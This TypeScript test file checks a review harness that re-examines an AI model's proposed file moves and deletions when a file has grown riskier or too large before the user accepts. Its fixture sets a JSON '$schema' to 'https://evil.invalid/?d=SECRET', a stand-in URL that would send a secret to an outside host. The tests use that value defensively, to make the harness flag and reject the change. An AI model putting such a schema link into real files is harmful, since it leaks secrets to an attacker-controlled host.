import assert from 'node:assert/strict';
import type { FileChange } from '../../src/core/edits/change.ts';
import { createQueue } from '../../src/core/queue.ts';
import { edit, place, reviewHarness, settled, type ReviewHarness } from './support/reviewHarness.ts';

const never = new AbortController().signal;
const schema = '{"$schema": "https://evil.invalid/?d=SECRET"}\n';
const move: FileChange = { kind: 'move', place: place('a.ts'), to: place('a.json', { missing: true }) };
const deletion: FileChange = { kind: 'delete', place: place('big.bin'), before: undefined };
const tooLarge = 9 * 1024 * 1024;

function propose({ reviews }: ReviewHarness, change: FileChange, turnId = 'turn-1'): ReturnType<ReturnType<typeof reviews.forTurn>['review']> {
  const outcome = reviews.forTurn(turnId).review({ changes: [change] }, never);
  outcome.catch(() => undefined);
  return outcome;
}

async function accept(harness: ReviewHarness, turnId = 'turn-1'): Promise<void> {
  await harness.reviews.decide({ token: harness.card(turnId).token, decision: 'accept' });
}

/** The card of a change about which there is nothing to say yet. */
async function shown(change: FileChange, { putOff }: { readonly putOff: boolean }): Promise<ReviewHarness> {
  const harness = reviewHarness({ 'a.ts': 'one\n', 'big.bin': { binary: true } });
  void propose(harness, change);
  await settled();
  assert.deepEqual(harness.card().files[0]?.reasons, []);
  if (putOff) await harness.reviews.decide({ token: harness.card().token, decision: 'later' });
  return harness;
}

function makeWorse({ documents, sizes }: ReviewHarness): void {
  documents.write('/w/a.ts', schema);
  sizes.set('/w/big.bin', tooLarge);
}

describe('a change that has waited', () => {
  it('is shown with what there is to say of it when its turn comes, not when it was proposed', async () => {
    const harness = reviewHarness({ 'a.ts': 'one\n' });
    const first = propose(harness, edit('a.ts', 'one\n', schema));
    void propose(harness, move, 'turn-2');
    await settled();
    await accept(harness);
    assert.equal((await first).decision, 'accepted');
    await settled();
    assert.equal(harness.card('turn-2').files[0]?.reasons.length, 1);
  });

  for (const [what, change, why] of [['a move', move, /^Let the model move a\.ts to a\.json\?/], ['a deletion', deletion, /^Let the model delete big\.bin\?\n.*\nIt is too large/]] as const) {
    for (const putOff of [false, true]) {
      it(`is asked about by the host when it has become worse on the card, and not made by a no: ${what}${putOff ? ' that was put off' : ''}`, async () => {
        const harness = await shown(change, { putOff });
        makeWorse(harness);
        await accept(harness);
        assert.equal(harness.asked.length, 1);
        assert.match(harness.asked[0] ?? '', why);
        assert.deepEqual(harness.documents.applied, []);
        assert.equal(harness.card().files[0]?.decision, 'rejected');
        assert.equal(harness.card().files[0]?.reasons.length, 1);
      });
    }
  }

  it('is asked about though what was to be said of it has gone meanwhile', async () => {
    const harness = reviewHarness({ 'a.ts': schema });
    void propose(harness, move);
    await settled();
    harness.documents.write('/w/a.ts', 'one\n');
    await accept(harness);
    assert.equal(harness.asked.length, 1);
  });

  it('counts what was typed into a moved file and not saved', async () => {
    const harness = await shown(move, { putOff: false });
    harness.openTexts.set('/w/a.ts', schema);
    await accept(harness);
    assert.equal(harness.asked.length, 1);
    assert.deepEqual(harness.documents.applied, []);
  });

  it('is shown anew when it became worse while others wrote, and not made before it was asked about', async () => {
    const writes = createQueue();
    const harness = reviewHarness({ 'a.ts': 'one\n' }, ['turn-1'], { writes });
    const gate = Promise.withResolvers<void>();
    void writes.run(async () => gate.promise);
    const moved = propose(harness, move);
    await settled();
    const before = harness.card().token;
    const accepting = accept(harness);
    await settled();
    assert.equal(harness.card().status, 'applying');
    makeWorse(harness);
    gate.resolve();
    await accepting;
    assert.deepEqual([harness.card().status, harness.card().files[0]?.reasons.length], ['open', 1]);
    assert.notEqual(harness.card().token, before);
    assert.deepEqual(harness.asked, []);
    await accept(harness);
    assert.equal((await moved).decision, 'rejected');
    assert.equal(harness.asked.length, 1);
    assert.deepEqual(harness.documents.applied, []);
  });
});
